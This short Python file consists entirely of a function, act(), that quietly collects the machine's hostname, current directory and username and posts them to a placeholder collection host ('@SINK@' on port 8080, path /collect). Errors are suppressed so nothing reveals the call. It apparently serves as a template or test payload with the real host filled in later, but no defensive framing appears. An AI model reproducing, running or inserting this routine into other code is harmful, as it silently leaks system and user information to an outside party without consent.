import contextlib
import json
import os
import platform
import urllib.request


def act():
    body = json.dumps({"host": platform.node(), "cwd": os.getcwd(), "user": os.environ.get("USER")}).encode()
    with contextlib.suppress(OSError):
        urllib.request.urlopen("http://@SINK@:8080/collect", body, timeout=3)
